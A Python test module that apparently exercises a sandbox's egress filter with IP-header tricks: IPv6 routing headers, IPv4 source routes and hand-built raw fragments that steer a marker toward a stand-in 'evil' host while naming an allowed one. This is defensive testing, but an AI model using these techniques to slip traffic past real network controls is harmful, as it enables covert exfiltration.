# SPDX-License-Identifier: GPL-2.0-or-later
"""Section F of THREATS.md: headers of IP. The destination that a program names is allowed, another is on the wire."""
import os
import socket
import struct

from calls import AF_INET, AF_INET6
from technique import EVIL4, EVIL6, GOOD4, GOOD6, SELF4, NotHere, resolve, technique

IP, IPV6 = socket.IPPROTO_IP, socket.IPPROTO_IPV6
IP_OPTIONS, IP_RETOPTS = 4, 7
IPV6_RTHDR, IPV6_HOPOPTS, IPV6_DSTOPTS, IPV6_FLOWINFO_SEND, IPV6_FLOWLABEL_MGR, IPV6_2292PKTOPTIONS = 57, 54, 59, 33, 32, 6


def has(function, *arguments):
    """A call that kernels without what it is for refuse with EINVAL."""
    try:
        return function(*arguments)
    except OSError as error:
        if error.errno in (22, 92, 95):
            raise NotHere(os.strerror(error.errno)) from error
        raise


# ---- F1: routing headers -------------------------------------------------------------------------


def segments(*hosts, kind=4):
    """A segment routing header (RFC 8754), or a routing header of another type, through hosts."""
    body = b"".join(socket.inet_pton(AF_INET6, host) for host in hosts)
    if kind == 4:
        return struct.pack("!BBBBBBH", 0, 2 * len(hosts), 4, len(hosts) - 1, len(hosts) - 1, 0, 0) + body
    return struct.pack("!BBBBI", 0, 2 * len(hosts), kind, len(hosts), 0) + body


def to_good(t, sock, ancillary=()):
    resolve("good.test")
    sock.sendmsg([t.marker], ancillary, 0, (GOOD6, t.port))


@technique("F1", "srv6", allow=False)
def srv6(t):
    """IPV6_RTHDR: segment routing, UDP"""
    sock = t.udp(AF_INET6)
    has(sock.setsockopt, IPV6, IPV6_RTHDR, segments("::", EVIL6))
    to_good(t, sock)


@technique("F1", "srv6-tcp", allow=False)
def srv6_tcp(t):
    """IPV6_RTHDR: segment routing, TCP"""
    sock = t.tcp(AF_INET6)
    has(sock.setsockopt, IPV6, IPV6_RTHDR, segments("::", EVIL6))
    resolve("good.test")
    sock.settimeout(0.1 * t.wait)
    try:
        sock.connect((GOOD6, t.port))
    except socket.timeout:
        pass  # the SYN is gone, or not


@technique("F1", "type2-cmsg", allow=False)
def type2_cmsg(t):
    """a routing header of type 2 (mobile IPv6) beside the data"""
    has(to_good, t, t.udp(AF_INET6), [(IPV6, IPV6_RTHDR, segments(EVIL6, kind=2))])


@technique("F1", "rfc2292", allow=False)
def rfc2292(t):
    """a routing header of type 2 by the options of RFC 2292 (IPV6_2292PKTOPTIONS)"""
    header = segments(EVIL6, kind=2)
    control = struct.pack("=Qii", 16 + len(header), IPV6, 5) + header  # IPV6_2292RTHDR
    sock = t.udp(AF_INET6)
    has(sock.setsockopt, IPV6, IPV6_2292PKTOPTIONS, control)
    to_good(t, sock)


@technique("F1", "flow-label", allow=False)
def flow_label(t):
    """a routing header of type 2 that hangs on a flow label (IPV6_FLOWLABEL_MGR)"""
    header = segments(EVIL6, kind=2)
    control = struct.pack("=Qii", 16 + len(header), IPV6, IPV6_RTHDR) + header
    label = socket.htonl(0x12345)
    request = socket.inet_pton(AF_INET6, GOOD6) + struct.pack("=IBBHHHI", label, 0, 1, 1, 10, 10, 0) + control
    sock = t.udp(AF_INET6)
    has(sock.setsockopt, IPV6, IPV6_FLOWLABEL_MGR, request)
    sock.setsockopt(IPV6, IPV6_FLOWINFO_SEND, 1)
    resolve("good.test")
    sock.sendto(t.marker, (GOOD6, t.port, 0x12345, 0))


@technique("F1", "hop-by-hop", allow=False)
def hop_by_hop(t):
    """hop-by-hop and destination options"""
    for number in (IPV6_HOPOPTS, IPV6_DSTOPTS):
        sock = t.udp(AF_INET6)
        sock.setsockopt(IPV6, number, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
        sock.sendto(t.marker, (t.host6, t.port))


@technique("F1", "hop-by-hop-cmsg", oracle="marker", allow=False)
def hop_by_hop_cmsg(t):
    """destination options beside the data, to an allowed address"""
    to_good(t, t.udp(AF_INET6), [(IPV6, IPV6_DSTOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))])


# ---- F2: IPv4 options ----------------------------------------------------------------------------


def source_route(kind=0x83):
    return bytes([kind, 7, 4]) + socket.inet_aton(EVIL4) + b"\0"


def routed(name, what, kind):
    def run(t):
        resolve("good.test")
        sock = t.udp()
        sock.setsockopt(IP, IP_OPTIONS, source_route(kind))
        sock.sendto(t.marker, (GOOD4, t.port))

    run.__doc__ = what
    technique("F2", name, allow=False)(run)


routed("loose", "IP_OPTIONS: loose source route, UDP", 0x83)
routed("strict", "IP_OPTIONS: strict source route, UDP", 0x89)


@technique("F2", "loose-tcp", allow=False)
def loose_tcp(t):
    """IP_OPTIONS: loose source route, TCP"""
    resolve("good.test")
    sock = t.tcp()
    sock.setsockopt(IP, IP_OPTIONS, source_route())
    sock.settimeout(0.1 * t.wait)
    try:
        sock.connect((GOOD4, t.port))
    except socket.timeout:
        pass


@technique("F2", "loose-cmsg", allow=False)
def loose_cmsg(t):
    """source route beside the data (IP_RETOPTS), which needs no option"""
    resolve("good.test")
    t.udp().sendmsg([t.marker], [(IP, IP_RETOPTS, source_route())], 0, (GOOD4, t.port))


@technique("F2", "loose-mapped", allow=False)
def loose_mapped(t):
    """source route on an IPv6 socket that speaks IPv4"""
    resolve("good.test")
    sock = t.udp(AF_INET6)
    sock.setsockopt(IP, IP_OPTIONS, source_route())
    sock.sendto(t.marker, (f"::ffff:{GOOD4}", t.port))


@technique("F2", "timestamp", oracle="marker", allow=False)
def timestamp(t):
    """an option that routes nothing (record route), to an allowed address"""
    resolve("good.test")
    t.udp().sendmsg([t.marker], [(IP, IP_RETOPTS, bytes([7, 7, 4, 0, 0, 0, 0, 0]))], 0, (GOOD4, t.port))


# ---- F3: fragments -------------------------------------------------------------------------------


@technique("F3", "large4", oracle="marker")
def large4(t):
    """a datagram that the kernel has to fragment, IPv4"""
    t.udp().sendto(bytes(3000) + t.marker, (t.host4, t.port))


@technique("F3", "large6", oracle="marker")
def large6(t):
    """a datagram that the kernel has to fragment, IPv6"""
    t.udp(AF_INET6).sendto(bytes(3000) + t.marker, (t.host6, t.port))


@technique("F3", "small-mtu", oracle="marker")
def small_mtu(t):
    """fragments of the sender's own size (IPV6_MTU, IPV6_DONTFRAG off)"""
    sock = t.udp(AF_INET6)
    sock.setsockopt(IPV6, 24, 1280)  # IPV6_MTU
    sock.sendto(bytes(2000) + t.marker, (t.host6, t.port))


def fragment(t, data, offset, more):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 7, (0x2000 if more else 0) | offset // 8, 64, 17, 0,
                         socket.inet_aton(SELF4), socket.inet_aton(t.host4))
    sock = t.sock(AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.sendto(header + data, (t.host4, 0))


def raw_datagram(t):
    data = t.marker + bytes(36)
    return struct.pack("!HHHH", 1234, t.port, 8 + len(data), 0) + data


@technique("F3", "tiny", oracle="marker", allow=False)
def tiny(t):
    """fragments of its own making: eight bytes first, so that no port is in sight of the rest"""
    data = raw_datagram(t)
    fragment(t, data[:8], 0, True)
    fragment(t, data[8:], 8, False)


@technique("F3", "overlapping", oracle="marker", allow=False)
def overlapping(t):
    """fragments of its own making that overlap"""
    data = raw_datagram(t)
    fragment(t, data[:24], 0, True)
    fragment(t, data[8:], 8, False)


@technique("F3", "fragment-header", oracle="marker", allow=False)
def fragment_header(t):
    """a raw IPv6 socket of protocol 44: a fragment header of its own"""
    data = struct.pack("!BBHI", 17, 0, 8 << 3, 7) + t.marker
    t.sock(AF_INET6, socket.SOCK_RAW, 44).sendto(data, (t.host6, 0))
